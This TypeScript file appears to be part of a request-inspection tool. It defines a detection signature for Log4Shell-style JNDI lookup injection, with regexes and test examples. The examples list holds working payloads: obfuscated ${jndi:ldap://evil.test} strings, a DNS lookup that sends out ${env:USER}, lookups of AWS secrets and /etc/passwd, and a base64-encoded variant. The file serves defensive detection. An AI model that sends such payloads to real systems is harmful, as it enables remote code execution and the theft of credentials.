// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is looked for is written so.
import { type Lookup, lookupsOf } from '../lookups/nested-lookups.ts';
import { type Characters, hasAll, marksOf, type Reading } from '../readings/reading.ts';
import { ADDRESS_KINDS, type Leaf } from '../request/leaf/leaf.ts';
import type { Finding, Signature } from '../signature.ts';

const MARKS = marksOf('${:');
const ESCAPED = /\\([{}:$])/g;
/** The name of an object elsewhere as a whole value, for whoever looks names up. */
const BARE = /^\s{0,4}(?:java:comp\/env\/)?jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|https?):/i;
/** The same inside of the server that is asked: only its own settings name such. */
const INNER_NAME = /^\s{0,4}java:(?:comp|global|app|module|jboss|\/)[/\w.:-]{1,200}\s{0,4}$/i;
const COLON = marksOf(':');
const JNDI = /^\s{0,4}jndi\s{0,4}:/;
const SCHEME = /^\s{0,4}jndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?|ldap)\b/;
/** Lookups of the same notation that run a script or fetch an address. */
const ACTIVE =
  /^\s{0,4}(?:script\s{0,4}:\s{0,4}(?:javascript|js|groovy|jexl|nashorn|python|beanshell)\b|url\s{0,4}:\s{0,4}[\w-]{1,12}:\s{0,4}(?:https?|file|ftp|jar):|dns:(?:address|name|canonicalname)\||file\s{0,4}:\s{0,4}[\w-]{1,12}\s{0,4}:\s{0,4}(?:\/|[a-z]:|\.\.)|const\s{0,4}:\s{0,4}(?:javax?|com|org)\.|base64(?:decoder)?\s{0,4}:\s{0,4}jh[stuv]|(?:xml|properties)\s{0,4}:\s{0,4}[^:}]{0,80}\.\.?\/)/;
/** A disguised lookup whose end was cut off, or that hides in a way no library undoes. */
const SPELLED = /jndi|ldap|rmi:|\bj?n?d?i?:\/\//;
const FEWEST_DISGUISES = 2;
/** `${jndi:ldap://...}`: what somebody leaves out who writes about them. */
const LEFT_OUT = /^\s{0,4}jndi:\w{1,8}:\/\/(?:\.{3}|…)\s{0,4}$/;
const SUREST = 0.98;
/** Values of the server itself. */
const SERVER_VALUE =
  /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|sd|marker|base64|web|docker|k8s|spring|const|properties|localhost|resourcebundle|urldecoder|base64decoder|event|lower|upper|kubernetes|jvmrunargs)\s{0,4}:\s{0,4}\w/;
/** Lookups that no other notation has, so that not even a setting holds them as a whole. */
const OF_LOGGER =
  /^\s{0,4}(?:java|main|ctx|bundle|log4j|sd|marker|base64|event|lower|upper|spring|k8s|docker|jvmrunargs)\s{0,4}:/;
const SECRET = /secret|passw|token|access_?key|api_?key|credential|aws_|database_url/;

/** Lookups that a logging library follows to a foreign server (`${jndi:ldap://…}`), however they are nested. */
export const jndiLookup: Signature = {
  type: 'jndi_lookup',
  mitre: 'T1190',
  impact: [35, 45],
  examples: {
    hits: [
      '$\\{$\\{::-j\\}ndi:ldap://203.0.113.9/a\\}',
      '${event:Message}',
      { body: '{"q":"${lower:X}"}', contentType: 'application/json' },
      '${jndi:ldap://evil.test/a}',
      '${${lower:j}ndi:${lower:l}dap://evil.test/a}',
      '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.test/a}',
      '${${env:NOTHING:-j}ndi${env:NOTHING:-:}${upper:l}dap://evil.test}',
      '${script:javascript:1+1}',
      '${jnd${upper:\u0131}:dns://evil.test}',
      { headers: { 'user-agent': '${jndi:dns://evil.test/${env:USER}}' } },
      { headers: { 'x-api-version': '${env:AWS_SECRET_ACCESS_KEY}' } },
      'jndi:ldap://evil.test/a',
      '${file:UTF-8:/etc/passwd}',
      '${const:java.awt.event.KeyEvent.VK_ESCAPE}',
      '${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLnRlc3QvfQ==}',
      { query: 'source=java:comp/env/jdbc/main' },
      { body: 'user=%24%7Bjava%3Aversion%7D', contentType: 'application/x-www-form-urlencoded' },
    ],
    misses: [
      '${user.name}',
      '${a:-default}',
      { body: '{"path":"${env:HOME}/bin","dir":"${sys:user.dir}"}', contentType: 'application/json' },
      'Log4Shell was about JNDI and ldap: update now',
      '${{ env.TOKEN }}',
      { body: '{"jndi":"java:comp/env/jdbc/main","pool":5}', contentType: 'application/json' },
      'never log ${jndi:ldap://...} as it is',
    ],
  },
  couldMatch(characters: Characters): boolean {
    return hasAll(characters, COLON);
  },
  match(reading: Reading): Finding | null {
    if (BARE.test(reading.text)) return { pattern: 'name of an object elsewhere', confidence: 0.75, at: 0 };
    if (INNER_NAME.test(reading.text) && isAsked(reading.leaf))
      return { pattern: 'name of an object of the server', confidence: 0.6, at: 0 };
    if (!hasAll(reading, MARKS)) return null;
    let best: Finding | null = null;
    for (const lookup of lookupsOf(withoutEscapes(reading.text))) {
      const found = judge(lookup, reading);
      if (found !== null && found.confidence > (best?.confidence ?? 0)) best = found;
      if (best !== null && best.confidence >= SUREST) break;
    }
    return best;
  },
};

/** `$\\{jndi\\:…\\}`, as templates and configurations escape what others are to evaluate; offsets are those of the text without them. */
function withoutEscapes(text: string): string {
  return text.includes('$\\{') ? text.replace(ESCAPED, '$1') : text;
}

function judge({ text, disguises, at }: Lookup, { leaf, text: whole }: Reading): Finding | null {
  if (LEFT_OUT.test(text)) return null;
  if (JNDI.test(text)) return { pattern: 'JNDI lookup', confidence: SCHEME.test(text) ? 0.98 : 0.92, at };
  if (ACTIVE.test(text)) return { pattern: 'active lookup', confidence: 0.93, at };
  if (disguises >= FEWEST_DISGUISES) {
    return { pattern: 'disguised lookup', confidence: SPELLED.test(text) ? 0.9 : 0.7, at };
  }
  if (!SERVER_VALUE.test(text)) return null;
  if (!ADDRESS_KINDS.has(leaf.kind) && !isLookupAlone(text, at, whole, leaf)) return null;
  return { pattern: 'lookup of a server value', confidence: SECRET.test(text) ? 0.8 : 0.6, at };
}

/** A value of a parameter, which no program sets to a name of its own server. */
function isAsked({ kind, part }: Leaf): boolean {
  return part === 'value' && (ADDRESS_KINDS.has(kind) || kind === 'form' || kind === 'multipart');
}

/** A lookup and nothing else as the value of a field. */
function isLookupAlone(text: string, at: number, whole: string, { kind, isAlone, isPiece }: Leaf): boolean {
  if (at > 0 || isPiece === true || !whole.endsWith('}') || whole.indexOf('}') !== whole.length - 1) return false;
  return kind === 'form' || kind === 'multipart' || (isAlone === true && OF_LOGGER.test(text));
}
